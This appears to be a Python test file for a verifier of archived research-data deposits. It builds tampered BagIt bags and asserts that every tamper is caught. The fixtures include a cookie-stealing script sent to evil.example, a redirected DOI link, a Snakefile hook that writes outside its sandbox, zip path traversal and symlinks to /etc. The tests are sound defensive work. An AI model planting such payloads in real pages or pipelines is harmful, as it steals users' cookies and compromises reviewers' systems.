"""make verify on the example deposit: a clean deposit reproduces from its zip and every file of
it is accounted for; a tampered deposit, re-bagged so that fixity passes, has each tamper named
by its file; a deposit whose code differs is refused before anything runs; a wrong fingerprint is
the first difference; bad input exits 2 with a clear message and nothing written outside the
scratch folder.

A rerun costs most of a minute, so the file runs three: the clean deposit, one deposit that
carries every tamper of data and documents at once, and one with the reviewer's tolerances. Every
other test stops before the rerun (the anchor, the layout, fixity, the code)."""

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import bagit
import pytest
import yaml
from project_copy import RUN_ENVIRONMENT, git

from peacekeeping_interviews import __version__
from peacekeeping_interviews.archive.deposit_opening import check_fixity, open_deposit
from peacekeeping_interviews.archive.replication_report import differences_summary
from peacekeeping_interviews.archive.verification import (
    expected_fingerprint,
    read_tolerances,
    verify_deposit,
)
from peacekeeping_interviews.archive.verification_result import (
    CHECKED,
    DIFFERS,
    REPRODUCED,
    UNVERIFIABLE,
    VerificationError,
)
from peacekeeping_interviews.cli import main as cli
from peacekeeping_interviews.deposit_layout import LAYOUT_VERSION
from peacekeeping_interviews.study_config import public_config_text

pytestmark = pytest.mark.end_to_end

PAPER = f"results/paper/paper-v{__version__}"
APPENDIX = f"results/paper/appendix-v{__version__}"
RICHNESS = "results/saturation/richness.csv"
LEAK_SCAN = "data/results/leak_scan/report.json"
CHANGED_INPUT = "changed after the documents were rendered from it"


@pytest.fixture(scope="session")
def checkout(example_run) -> Path:
    """The copy that made the deposit: a git checkout whose working tree is the deposit's source
    snapshot, as a reviewer's checkout of the published version would be."""
    return example_run


@pytest.fixture(scope="session")
def deposit(checkout) -> Path:
    bags = [p.parent for p in (checkout / "results" / "deposit").glob("*/bagit.txt")]
    assert len(bags) == 1
    return bags[0]


@pytest.fixture
def cffconvert(monkeypatch) -> None:
    """The rerun rebuilds the bag, which validates CITATION.cff with cffconvert; the copies have
    no .venv-cffconvert of their own (``make verify`` exports PKI_CFFCONVERT the same way)."""
    monkeypatch.setenv("PKI_CFFCONVERT", RUN_ENVIRONMENT["PKI_CFFCONVERT"])


def tampered(deposit: Path, destination: Path, change, rebag: bool = True, info=None) -> Path:
    """A copy of the bag changed by ``change(payload)``, its bag-info.txt updated with ``info``;
    re-bagged, as a careless or dishonest depositor would, so that fixity passes."""
    copy = destination / deposit.name
    shutil.copytree(deposit, copy)
    change(copy / "data")
    if rebag:
        bag = bagit.Bag(str(copy))
        bag.info.update(info or {})
        bag.save(manifests=True)
    return copy


def files_outside(folder: Path, scratch: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if scratch not in p.parents and p != scratch}


def bag_info(bag: Path) -> dict[str, str]:
    return {k: str(v) for k, v in bagit.Bag(str(bag)).info.items()}


def file_table(report: str) -> dict[str, str]:
    """REPLICATION.md's "Every file of the deposit" table: each file with its status."""
    section = report.split("## Every file of the deposit", 1)[1].split("\n## ", 1)[0]
    rows = re.findall(r"^\| `([^`]+)` \| ([^|]+) \|", section, flags=re.MULTILINE)
    return {file: status.strip().strip("*") for file, status in rows}


def report_of(scratch: Path, bag: Path) -> str:
    return (scratch / bag.name / "REPLICATION.md").read_text(encoding="utf-8")


# ---------------------------------------------------------------------------- a clean deposit


def test_the_example_deposit_reproduces_from_its_zip_every_file_accounted_for(
    deposit, checkout, tmp_path, capsys, cffconvert
):
    zips = sorted((deposit.parent / f"{deposit.name}-zip").glob("*.zip"))
    assert [z.name for z in zips] == [f"{deposit.name}.zip"]
    with zipfile.ZipFile(zips[0]) as archive:
        in_zip = {name.split("/", 1)[1] for name in archive.namelist() if not name.endswith("/")}
    fingerprint = bag_info(deposit)["Data-Fingerprint"]
    status = cli(
        [
            "verify",
            str(zips[0]),
            "--scratch",
            str(tmp_path),
            "--checkout",
            str(checkout),
            "--expect",
            fingerprint.upper(),
        ]
    )
    assert status == 0, capsys.readouterr().err
    assert capsys.readouterr().out.startswith("reproduced: every other file of the deposit")
    report = report_of(tmp_path, deposit)
    assert "> **The deposit holds SYNTHETIC EXAMPLE DATA, not the study's interviews.**" in report
    assert "- Outcome: **reproduced" in report
    assert f"The article prints `{fingerprint}`: **the same**" in report
    assert "The same bytes, file by file: the rerun ran your code" in report
    table = file_table(report)
    assert set(table) == in_zip
    assert set(table.values()) <= {REPRODUCED, CHECKED, UNVERIFIABLE}
    assert table[LEAK_SCAN] == UNVERIFIABLE
    assert table[f"data/{PAPER}.html"] == REPRODUCED
    assert table["data/release/coding.csv"] == CHECKED
    assert "your repository's commit holds the same files" in report
    assert "## Differences" not in report


# ---------------------------------------------------------------------------- tampered data


def _append_fabricated_excerpt(payload: Path) -> None:
    """A copy of the first coded segment, as a new segment of the same interview, with words
    nobody said."""
    path = payload / "release/coding.csv"
    text = path.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    fake = dict(rows[0])
    fake["segment"] = str(
        1 + max(int(r["segment"]) for r in rows if r["pseudonym"] == fake["pseudonym"])
    )
    fake["excerpt"] = "I saw the minister take the money with my own eyes."
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(fake.values())
    path.write_text(text + line.getvalue(), encoding="utf-8")


def _rename_a_named_interviewee(payload: Path) -> str:
    path = payload / "release/interviews.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    header = next(csv.reader(lines[:1]))
    for number, line in enumerate(lines[1:], start=1):
        row = dict(zip(header, next(csv.reader([line])), strict=True))
        if row["consent"] == "named" and row["name"]:
            lines[number] = line.replace(f",{row['name']},", ",Someone Else Entirely,", 1)
            assert lines[number] != line
            path.write_text("".join(lines), encoding="utf-8")
            return row["name"]
    raise AssertionError("the example release has no named interviewee")


def _tamper_the_paper_html(payload: Path) -> None:
    """The synthetic banner replaced by a script that sends the reader's cookies away, and a
    reference's DOI link pointed elsewhere."""
    path = payload / f"{PAPER}.html"
    text, removed = re.subn(
        r'<div class="pki-banner"[^>]*>.*?</div>\n',
        "<script>fetch('https://evil.example/'+document.cookie)</script>\n",
        path.read_text(encoding="utf-8"),
        count=1,
    )
    assert removed == 1
    assert 'href="https://doi.org/' in text
    text = text.replace('href="https://doi.org/', 'href="https://evil.example/doi/', 1)
    path.write_text(text, encoding="utf-8")


def _edit_the_documentation(payload: Path) -> None:
    data_list = payload / "documentation/data_list.csv"
    lines = data_list.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[1] = lines[1].replace("an anonymous source", "a minister's adviser", 1)
    data_list.write_text("".join(lines), encoding="utf-8")
    readme = payload / "README.md"
    lines = readme.read_text(encoding="utf-8").splitlines(keepends=True)
    readme.write_text("Interviews with real officials, fully identified.\n" + "".join(lines[1:]))
    datacite = payload / "datacite.json"
    datacite.write_text(
        datacite.read_text(encoding="utf-8").replace(
            " [synthetic example data]", " [interview data]", 1
        ),
        encoding="utf-8",
    )


def _inflate_richness_and_loosen_the_declared_tolerance(payload: Path) -> None:
    richness = payload / RICHNESS
    rows = list(csv.DictReader(io.StringIO(richness.read_text(encoding="utf-8"))))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows({**row, "estimate": "55.0"} for row in rows)
    richness.write_text(out.getvalue(), encoding="utf-8")
    config = payload / "public/config.yaml"
    settings = yaml.safe_load(config.read_text(encoding="utf-8"))
    assert settings["verification"]["tolerances"] == {}
    settings["verification"]["tolerances"] = {RICHNESS: {"estimate": 1000}}
    config.write_text(public_config_text(settings), encoding="utf-8")


def _forge_the_commit_label_and_the_leak_scan(payload: Path) -> None:
    """A commit the code never had, printed on every page, and a claim added to the one file no
    rerun can make."""
    record = payload / "results/paper/render.json"
    text = record.read_text(encoding="utf-8")
    label = json.loads(text)["stamp"]["commit"]
    record.write_text(text.replace(label, "c0ffee000000"), encoding="utf-8")
    scan = payload / "results/leak_scan/report.json"
    report = json.loads(scan.read_text(encoding="utf-8"))
    report["reviewed_by"] = "UK Data Service: no personal data found"
    scan.write_text(json.dumps(report, indent=2, sort_keys=True) + "\n", encoding="utf-8")


def test_every_tamper_of_a_rebagged_deposit_is_named_by_its_file(
    deposit, checkout, tmp_path, cffconvert
):
    appendix_pdf = (deposit / "data" / f"{APPENDIX}.pdf").read_bytes()

    def change(payload: Path) -> None:
        _append_fabricated_excerpt(payload)
        _rename_a_named_interviewee(payload)
        (payload / f"{PAPER}.pdf").write_bytes(appendix_pdf)
        _tamper_the_paper_html(payload)
        _edit_the_documentation(payload)
        (payload / "results/extra.csv").write_text("a\n1\n", encoding="utf-8")
        _inflate_richness_and_loosen_the_declared_tolerance(payload)
        _forge_the_commit_label_and_the_leak_scan(payload)

    bag = tampered(deposit, tmp_path / "in", change, info={"Synthetic-Data": "false"})
    assert bag_info(bag)["Synthetic-Data"] == "false"
    check_fixity(bag)  # re-bagged: fixity cannot tell
    clean = bag_info(deposit)["Data-Fingerprint"]
    scratch = tmp_path / "scratch"

    result = verify_deposit(bag, scratch, checkout=checkout, expect=clean)

    assert result.status == 1
    assert not result.rerun_failure
    assert result.fingerprint != clean
    assert differences_summary(result)[0] == (
        f"data fingerprint: the deposit's is {result.fingerprint}, the article prints {clean}"
    )
    files = {f.file: f for f in result.files}

    def differs(path: str, *fragments: str) -> None:
        item = files[path]
        assert item.status == DIFFERS, (path, item)
        for fragment in fragments:
            assert any(fragment in d for d in item.differences), (path, fragment, item)

    for changed_input in ("release/coding.csv", "release/interviews.csv", "public/config.yaml"):
        differs(f"data/{changed_input}", CHANGED_INPUT)
    assert files["data/release/mission_counts.csv"].status == CHECKED
    differs(f"data/{PAPER}.pdf", f"{len(appendix_pdf)} bytes in the deposit")
    # The banner's words are missing from the deposit's text, and the first line of HTML source
    # that differs is the script put in its place. (The DOI link, further down, is named only by
    # the file: a difference in the source is explained by its first line.)
    differs(f"data/{PAPER}.html", "HTML source line", "evil.example/'+document.cookie")
    words = [d for d in files[f"data/{PAPER}.html"].differences if "the text differs" in d]
    deposited, _, rebuilt = words[0].partition(", rerun ")
    assert "SYNTHETIC EXAMPLE DATA" in rebuilt and "SYNTHETIC EXAMPLE DATA" not in deposited
    differs("data/documentation/data_list.csv", 'deposit "a minister\'s adviser"')
    differs("data/README.md", "line 1: deposit 'Interviews with real officials")
    differs("data/datacite.json", "titles.0.title: deposit")
    differs("bag-info.txt")
    differs("data/results/extra.csv", "in the deposit, but the rebuilt deposit has no such file")
    # The deposit's own tolerance would have let 55.0 pass: it is reported, never applied.
    assert result.tolerances == {}
    assert result.declared_tolerances == {RICHNESS: {"estimate": 1000}}
    differs(f"data/{RICHNESS}", "column estimate: deposit '55.0'")
    # The data say synthetic, whatever bag-info.txt says.
    assert result.synthetic
    assert not result.label_matches
    assert "c0ffee000000, which your repository does not have" in result.label_note
    differs(LEAK_SCAN, "expected exactly the keys")

    report = report_of(scratch, bag)
    assert "> **The deposit holds SYNTHETIC EXAMPLE DATA, not the study's interviews.**" in report
    assert f"- Recomputed from the deposited inputs: `{result.fingerprint}`" in report
    assert f"- The article prints `{clean}`: **MISMATCH**" in report
    assert f"- Declared by the deposit, not applied: `{RICHNESS}`: {{'estimate': 1000}}" in report
    table = file_table(report)
    in_bag = {p.relative_to(bag).as_posix() for p in bag.rglob("*") if p.is_file()}
    # The forged label names a snapshot the rebuilt bag has and the deposit does not.
    assert set(table) == in_bag | {"data/code/source-c0ffee000000.tar.gz"}
    differs("data/code/source-c0ffee000000.tar.gz", "missing from the deposit")
    differences = report.split("## Differences", 1)[1]
    for path in (
        "data/release/coding.csv",
        "data/release/interviews.csv",
        "data/public/config.yaml",
        f"data/{PAPER}.pdf",
        f"data/{PAPER}.html",
        "data/documentation/data_list.csv",
        "data/README.md",
        "data/datacite.json",
        "bag-info.txt",
        "data/results/extra.csv",
        f"data/{RICHNESS}",
    ):
        assert table[path] == DIFFERS, path
        assert f"\n- {path}" in differences, path
    assert differences.split("\n- ")[1].startswith("data fingerprint: ")


def test_reviewer_tolerances_accept_a_nudged_estimate_the_bytes_still_tell(
    deposit, checkout, tmp_path, cffconvert
):
    """A richness estimate nudged by 0.001 (the documents not re-rendered) reproduces within the
    reviewer's tolerance of 0.01; the records of its bytes (the manifests, Payload-Oxum) differ
    only there and are accepted with it, so the deposit reproduces."""

    def change(payload: Path) -> None:
        richness = payload / RICHNESS
        rows = list(csv.reader(io.StringIO(richness.read_text(encoding="utf-8"))))
        column = rows[0].index("estimate")
        rows[1][column] = f"{float(rows[1][column]) + 0.001:.4f}"
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        assert out.getvalue() != richness.read_text(encoding="utf-8")
        richness.write_text(out.getvalue(), encoding="utf-8")

    bag = tampered(deposit, tmp_path / "in", change)
    (tmp_path / "tolerances.yaml").write_text(f"{RICHNESS}:\n  estimate: 0.01\n")
    tolerances = read_tolerances(tmp_path / "tolerances.yaml")
    result = verify_deposit(bag, tmp_path / "scratch", checkout=checkout, tolerances=tolerances)
    files = {f.file: f for f in result.files}
    richness = files[f"data/{RICHNESS}"]
    assert richness.status == REPRODUCED
    assert richness.how == "within your tolerances {'estimate': 0.01}"
    payload_differences = {
        f.file
        for f in result.files
        if f.status == DIFFERS and f.file.startswith("data/") and f.file != LEAK_SCAN
    }
    assert payload_differences == set()
    assert files["manifest-sha256.txt"].status == REPRODUCED
    assert files["manifest-sha256.txt"].how.startswith("differs only where it records the files")
    assert result.status == 0
    report = report_of(tmp_path / "scratch", bag)
    assert f"- Applied (yours): `{RICHNESS}`: {{'estimate': 0.01}}" in report


# ---------------------------------------------------------------------------- tampered code

# Put first, so that the code check's first differing line is the hook itself.
ONSUCCESS = """onsuccess:
    import pathlib, shutil
    pathlib.Path({outside!r}).write_text("the deposit's own code ran\\n")
    shutil.copytree("data/deposited/results", "results", dirs_exist_ok=True)

"""


@pytest.fixture(scope="module")
def code_tampered(deposit, tmp_path_factory) -> tuple[Path, Path]:
    """A re-bagged deposit whose source snapshot's Snakefile gains an ``onsuccess:`` hook that
    writes outside the scratch folder and copies deposited results over the rerun's; and the
    file that hook would write."""
    base = tmp_path_factory.mktemp("code")
    outside = base / "outside"

    def change(payload: Path) -> None:
        (snapshot,) = (payload / "code").glob("source-*.tar.gz")
        members = []
        with tarfile.open(snapshot, mode="r:gz") as tar:
            for member in tar.getmembers():
                content = tar.extractfile(member).read() if member.isfile() else None
                if member.name.endswith("-source/Snakefile"):
                    content = ONSUCCESS.format(outside=str(outside)).encode() + content
                    member.size = len(content)
                members.append((member, content))
        with tarfile.open(snapshot, mode="w:gz") as tar:
            for member, content in members:
                tar.addfile(member, io.BytesIO(content) if content is not None else None)

    return tampered(deposit, base / "in", change), outside


def test_a_deposit_whose_code_differs_is_refused_before_anything_runs(code_tampered, checkout):
    bag, outside = code_tampered
    base = bag.parent.parent
    scratch = base / "scratch"
    before = files_outside(base, scratch)
    result = verify_deposit(bag, scratch, checkout=checkout)
    assert result.status == 1
    assert len(result.code.differences) == 1
    assert result.code.differences[0].startswith("Snakefile: ")
    assert "differs from line 1: deposit 'onsuccess:'" in result.code.differences[0]
    assert result.files == [] and result.isolation is None
    work = scratch / bag.name
    assert not (work / "rerun").exists()
    assert not outside.exists()
    assert files_outside(base, scratch) == before
    report = (work / "REPLICATION.md").read_text(encoding="utf-8")
    assert "**1 files differ: nothing was run.**" in report
    assert "- code: Snakefile: " in report


# ---------------------------------------------------------------------------- make verify


@pytest.fixture(scope="module")
def make_checkout(checkout, tmp_path_factory) -> Path:
    """A clone of the checkout that made the deposit, for ``make verify``, whose own ``make venv``
    must do nothing. Make reads ``make verify``'s outcome while parsing, in a ``$(shell)`` that
    runs ``$(MAKE) venv`` without the command line's variables (GNU make 4.3), so VENV= cannot
    point it elsewhere: the clone gets a .venv whose bin is this test run's own and whose
    ``installed`` stamps are newer than the lock files, and ``make -q venv`` confirms that
    nothing would be installed before any ``make verify`` runs."""
    clone = tmp_path_factory.mktemp("make") / "checkout"
    git("clone", "--quiet", str(checkout), str(clone), cwd=checkout)
    (clone / ".venv").mkdir()
    (clone / ".venv" / "bin").symlink_to(Path(sys.executable).parent)
    for venv in (".venv", ".venv-cffconvert"):
        (clone / venv).mkdir(exist_ok=True)
        (clone / venv / "installed").touch()
    assert make(clone, "-q", "venv").returncode == 0, "make venv would install something"
    return clone


def make(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    environ = {k: v for k, v in os.environ.items() if k not in {"MAKEFLAGS", "MFLAGS", "MAKELEVEL"}}
    return subprocess.run(
        ["make", "-s", *args], cwd=cwd, env=environ, capture_output=True, text=True, check=False
    )


def test_make_verify_exits_2_without_a_deposit_or_with_one_that_does_not_exist(
    make_checkout, tmp_path
):
    result = make(make_checkout, "verify", f"VERIFY_DIR={tmp_path / 'v'}")
    assert result.returncode == 2
    assert "usage: make verify DEPOSIT=" in result.stderr
    result = make(
        make_checkout, "verify", f"DEPOSIT={tmp_path / 'nothing'}", f"VERIFY_DIR={tmp_path / 'v'}"
    )
    assert result.returncode == 2
    assert "no such file or folder" in result.stderr


def test_make_verify_exits_1_for_a_deposit_whose_code_differs(
    make_checkout, code_tampered, tmp_path
):
    bag, outside = code_tampered
    result = make(make_checkout, "verify", f"DEPOSIT={bag}", f"VERIFY_DIR={tmp_path}")
    assert result.returncode == 1, result.stderr
    assert "DIFFERENCES FOUND" in result.stderr and "code: Snakefile: " in result.stderr
    assert not outside.exists()
    assert not (tmp_path / bag.name / "rerun").exists()


# ---------------------------------------------------------------------------- the anchor


def test_a_malformed_fingerprint_is_refused_before_anything_is_written(deposit, tmp_path, capsys):
    scratch = tmp_path / "scratch"
    assert cli(["verify", str(deposit), "--scratch", str(scratch), "--expect", "xyz"]) == 2
    assert "EXPECT='xyz': expected the data fingerprint as the article prints it, 20" in (
        capsys.readouterr().err
    )
    assert not scratch.exists()


def test_a_fingerprint_is_read_as_the_article_prints_it():
    assert expected_fingerprint("9920 FC0F-60D8:71A3 90BD") == "9920fc0f60d871a390bd"
    assert expected_fingerprint("") is None and expected_fingerprint(None) is None
    for wrong in ("9920fc0f60d871a390b", "9920fc0f60d871a390bdd", "9920fc0f60d871a390bg"):
        with pytest.raises(VerificationError, match="20 hexadecimal digits"):
            expected_fingerprint(wrong)


# ---------------------------------------------------------------------------- cannot verify


def test_a_corrupted_payload_file_fails_the_fixity_check_naming_it(deposit, tmp_path):
    def change(payload: Path) -> None:
        (payload / "results/tabulation/tests.csv").write_text("corrupted\n")

    bag = tampered(deposit, tmp_path / "in", change, rebag=False)
    with pytest.raises(VerificationError, match=r"data/results/tabulation/tests.csv: sha256 is"):
        verify_deposit(bag, tmp_path / "scratch")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            lambda p: (p / "release/coding.csv").unlink(),
            "data/release/coding.csv: listed in the manifest but missing",
        ),
        (
            lambda p: (p / "extra.csv").write_text("a\n"),
            "data/extra.csv: in the bag but not in the manifest",
        ),
    ],
    ids=["missing payload file", "extra payload file"],
)
def test_missing_or_extra_payload_files_are_named(deposit, tmp_path, change, message):
    bag = tampered(deposit, tmp_path / "in", change, rebag=False)
    scratch = tmp_path / "scratch"
    before = files_outside(tmp_path, scratch)
    with pytest.raises(VerificationError, match=message):
        verify_deposit(bag, scratch)
    assert files_outside(tmp_path, scratch) == before


@pytest.mark.parametrize(
    ("layout", "message"),
    [
        (
            str(LAYOUT_VERSION + 1),
            rf"deposit layout '{LAYOUT_VERSION + 1}' \(pipeline version .*\); this verifier reads "
            rf"layout {LAYOUT_VERSION} only",
        ),
        (
            str(LAYOUT_VERSION - 1),
            rf"deposit layout '{LAYOUT_VERSION - 1}' .* Verify it with a checkout of the version",
        ),
        (None, "has no Deposit-Layout-Version; this is not a deposit made by this pipeline"),
    ],
    ids=["newer", "older", "none"],
)
def test_a_layout_this_verifier_does_not_read_is_refused(deposit, tmp_path, layout, message):
    bag = tmp_path / "in" / deposit.name
    shutil.copytree(deposit, bag)
    copy = bagit.Bag(str(bag))
    if layout is None:
        del copy.info["Deposit-Layout-Version"]
    else:
        copy.info["Deposit-Layout-Version"] = layout
    copy.save()
    with pytest.raises(VerificationError, match=message):
        verify_deposit(bag, tmp_path / "scratch")


def test_a_split_deposit_is_read_from_any_of_its_zips_and_a_missing_part_is_named(
    deposit, tmp_path
):
    files = sorted(p for p in deposit.rglob("*") if p.is_file())
    parts = [tmp_path / f"{deposit.name}.part{n}-of-2.zip" for n in (1, 2)]
    for number, part in enumerate(parts):
        with zipfile.ZipFile(part, "w") as archive:
            for path in files[number::2]:
                archive.write(path, f"{deposit.name}/{path.relative_to(deposit).as_posix()}")
    bag = open_deposit(parts[1], tmp_path / "scratch")
    check_fixity(bag)
    assert {p.relative_to(bag) for p in bag.rglob("*") if p.is_file()} == {
        p.relative_to(deposit) for p in files
    }
    parts[0].unlink()
    with pytest.raises(VerificationError, match=rf"lacks {re.escape(parts[0].name)}"):
        open_deposit(parts[1], tmp_path / "again")


def test_a_zip_with_an_unsafe_path_is_refused(tmp_path):
    deposit = tmp_path / "study.zip"
    with zipfile.ZipFile(deposit, "w") as archive:
        archive.writestr("study/bagit.txt", "BagIt-Version: 0.97\n")
        archive.writestr("../escaped.txt", "out\n")
    with pytest.raises(VerificationError, match=re.escape("unsafe path '../escaped.txt'")):
        verify_deposit(deposit, tmp_path / "scratch")
    assert not (tmp_path / "escaped.txt").exists()


@pytest.mark.parametrize("kind", ["folder", "text file", "missing"])
def test_what_is_not_a_bag_is_refused_and_nothing_is_written_outside_scratch(
    tmp_path, kind, capsys
):
    target = tmp_path / "input"
    if kind == "folder":
        target.mkdir()
        (target / "data.csv").write_text("a\n1\n")
        expected = "not a BagIt bag (no bagit.txt"
    elif kind == "text file":
        target.write_text("not a zip\n")
        expected = "not a deposit (expected a BagIt bag folder or a zip of one)"
    else:
        expected = "no such file or folder"
    scratch = tmp_path / "scratch"
    before = files_outside(tmp_path, scratch)
    assert cli(["verify", str(target), "--scratch", str(scratch)]) == 2
    assert expected in capsys.readouterr().err
    assert files_outside(tmp_path, scratch) == before


def test_the_scratch_folder_never_deletes_the_deposit_or_a_folder_it_did_not_make(tmp_path):
    bag = tmp_path / "study-v1"
    bag.mkdir()
    (bag / "bagit.txt").write_text("BagIt-Version: 0.97\n")
    with pytest.raises(VerificationError, match="lies inside"):
        verify_deposit(bag, tmp_path)
    assert (bag / "bagit.txt").is_file()
    other = tmp_path / "scratch" / "study-v1"
    other.mkdir(parents=True)
    (other / "keep.txt").write_text("mine\n")
    with pytest.raises(VerificationError, match="was not made by make verify"):
        verify_deposit(bag, tmp_path / "scratch")
    assert (other / "keep.txt").is_file()


def test_the_scratch_folder_it_made_is_remade_on_the_next_run(tmp_path):
    bag = tmp_path / "study-v1"
    bag.mkdir()
    (bag / "bagit.txt").write_text("BagIt-Version: 0.97\n")
    scratch = tmp_path / "scratch"
    with pytest.raises(VerificationError, match="no Deposit-Layout-Version"):
        verify_deposit(bag, scratch)
    left_over = scratch / "study-v1" / "left-over.txt"
    left_over.write_text("from the last run\n")
    with pytest.raises(VerificationError, match="no Deposit-Layout-Version"):
        verify_deposit(bag, scratch)
    assert not left_over.exists()
    assert (scratch / "study-v1" / ".made-by-make-verify").is_file()


# ---------------------------------------------------------------------------- tolerances


def test_the_reviewer_tolerances_are_read_from_their_file(tmp_path):
    path = tmp_path / "tolerances.yaml"
    path.write_text(f"{RICHNESS}:\n  estimate: 0.01\nresults/x.json:\n  a.b: 2\n")
    assert read_tolerances(path) == {RICHNESS: {"estimate": 0.01}, "results/x.json": {"a.b": 2.0}}
    assert read_tolerances(None) == {}
    path.write_text("")
    assert read_tolerances(path) == {}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (f"{RICHNESS}:\n  estimate: -1\n", rf"{RICHNESS}, estimate: got -1; expected a number"),
        (f"{RICHNESS}:\n  estimate: lots\n", rf"{RICHNESS}, estimate: got 'lots'"),
        (f"{RICHNESS}:\n  estimate: true\n", rf"{RICHNESS}, estimate: got True"),
        (f"{RICHNESS}: 0.01\n", rf"{RICHNESS}: expected a mapping of column to tolerance"),
        ("- 0.01\n", "expected a mapping of results files to tolerances"),
        ("a: [b\n", "cannot read the tolerances"),
    ],
    ids=["negative", "text", "boolean", "no column", "a list", "not YAML"],
)
def test_bad_tolerances_are_refused_naming_the_file_column_and_value(tmp_path, text, message):
    path = tmp_path / "tolerances.yaml"
    path.write_text(text)
    with pytest.raises(VerificationError, match=rf"^{re.escape(str(path))}: .*{message}"):
        read_tolerances(path)


def test_the_cli_refuses_bad_tolerances_with_exit_2_before_anything_is_written(tmp_path, capsys):
    path = tmp_path / "tolerances.yaml"
    path.write_text(f"{RICHNESS}:\n  estimate: -1\n")
    scratch = tmp_path / "scratch"
    assert cli(["verify", str(tmp_path), "--scratch", str(scratch), "--tolerances", str(path)]) == 2
    assert "estimate: got -1" in capsys.readouterr().err
    assert not scratch.exists()


# ---------------------------------------------------------------------- what an attacker tried


def test_a_scratch_folder_inside_the_deposit_is_refused(tmp_path):
    bag = tmp_path / "study-v1"
    bag.mkdir()
    (bag / "bagit.txt").write_text("BagIt-Version: 0.97\n")
    with pytest.raises(VerificationError, match="it lies inside the deposit"):
        verify_deposit(bag, bag / "verification")
    assert not (bag / "verification").exists()


@pytest.mark.parametrize("target", ["/etc", "outside.txt"], ids=["folder", "file"])
def test_a_link_in_the_bag_is_refused_naming_it(deposit, tmp_path, target, capsys):
    """bagit and a folder walk skip a linked folder, so nothing in it could be accounted for."""
    (tmp_path / "outside.txt").write_text("not in the bag\n")

    def change(payload: Path) -> None:
        link = payload / "results" / "linked"
        link.symlink_to(target if target.startswith("/") else tmp_path / target)

    bag = tampered(deposit, tmp_path / "in", change, rebag=False)
    scratch = tmp_path / "scratch"
    assert cli(["verify", str(bag), "--scratch", str(scratch)]) == 2
    assert "data/results/linked: not a regular file or folder" in capsys.readouterr().err


def test_a_zip_naming_a_file_twice_is_refused(tmp_path):
    deposit = tmp_path / "study.zip"
    with zipfile.ZipFile(deposit, "w") as archive:
        archive.writestr("study/bagit.txt", "BagIt-Version: 0.97\n")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("study/bagit.txt", "BagIt-Version: 1.0\n")
    with pytest.raises(
        VerificationError, match=re.escape("'study/bagit.txt' is in the deposit's zips twice")
    ):
        verify_deposit(deposit, tmp_path / "scratch")


def _rewrite_snapshot(payload: Path, extra_top: bool) -> None:
    """The snapshot with a second top folder holding a copy of the code (what ``tar x`` shows
    and what a lenient check compares could then differ)."""
    (snapshot,) = (payload / "code").glob("source-*.tar.gz")
    with tarfile.open(snapshot, mode="r:gz") as tar:
        members = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar]
    if extra_top:
        for member, content in list(members):
            copy = tarfile.TarInfo("zz/" + member.name.split("/", 1)[-1])
            copy.type, copy.size, copy.mode = member.type, member.size, member.mode
            members.append((copy, content))
    with tarfile.open(snapshot, mode="w:gz") as tar:
        for member, content in members:
            tar.addfile(member, io.BytesIO(content) if content is not None else None)


def test_a_snapshot_with_a_second_top_folder_is_refused_before_anything_runs(
    deposit, checkout, tmp_path
):
    bag = tampered(deposit, tmp_path / "in", lambda p: _rewrite_snapshot(p, extra_top=True))
    with pytest.raises(VerificationError, match="outside its folder"):
        verify_deposit(bag, tmp_path / "scratch", checkout=checkout)
    assert not (tmp_path / "scratch" / bag.name / "rerun").exists()


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("start_from", "confidential"),
        ("inputs", "interviews"),
    ],
    ids=["run from the confidential inputs", "a confidential input named"],
)
def test_a_deposited_config_the_pipeline_would_not_publish_is_refused(
    deposit, checkout, tmp_path, setting, value
):
    """It could point the reviewer's pipeline at the reviewer's own files."""

    def change(payload: Path) -> None:
        config = payload / "public/config.yaml"
        settings = yaml.safe_load(config.read_text(encoding="utf-8"))
        if setting == "inputs":
            settings["inputs"][value] = "/etc/hostname"
        else:
            settings[setting] = value
        config.write_text(yaml.safe_dump(settings, sort_keys=False), encoding="utf-8")

    bag = tampered(deposit, tmp_path / "in", change)
    with pytest.raises(VerificationError, match=f"not a config this pipeline publishes.*{setting}"):
        verify_deposit(bag, tmp_path / "scratch", checkout=checkout)
    assert not (tmp_path / "scratch" / bag.name / "rerun" / "rerun.log").exists()


def test_the_leak_scan_report_may_say_only_what_this_code_writes(deposit):
    """No rerun can make it, so its form is the check: no leak, counts, this code's methods."""
    from peacekeeping_interviews.archive.bag_comparison import leak_scan_report_problems

    report = json.loads((deposit / "data/results/leak_scan/report.json").read_text())
    assert leak_scan_report_problems(report, synthetic=True) == []
    assert leak_scan_report_problems(report, synthetic=False) == [
        "synthetic is True; the data say False"
    ]
    assert leak_scan_report_problems({**report, "leaks": 3}, True)[0].startswith("leaks is 3")
    claim = {**report, "restricted_strings": {**report["restricted_strings"], "names": "Jo Doe"}}
    assert leak_scan_report_problems(claim, True) == [
        "restricted_strings must count exactly "
        "['non_named_with_date_or_city', 'notes', 'raw_ids', 'unscrubbed_excerpts']"
    ]
    formats = dict(report["scanned_by_format"])
    formats["pdf"] = {**formats["pdf"], "how": "checked by the UK Data Service"}
    assert leak_scan_report_problems({**report, "scanned_by_format": formats}, True) == [
        "scanned_by_format must hold this code's formats, counts and methods"
    ]


def test_what_a_terminal_would_act_on_is_printed_escaped():
    from peacekeeping_interviews.archive.replication_report import printable

    assert printable("data/\x1b[2Kreproduced\r.csv") == "data/\\x1b[2Kreproduced\\r.csv"


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda text: "__use_yte__: true\n" + text,
            "not a valid config",
        ),
        (
            lambda text: "# written by hand\n" + text,
            "not written as the pipeline writes it",
        ),
    ],
    ids=["a key of its own (Snakemake's YAML templating runs such keys)", "other YAML"],
)
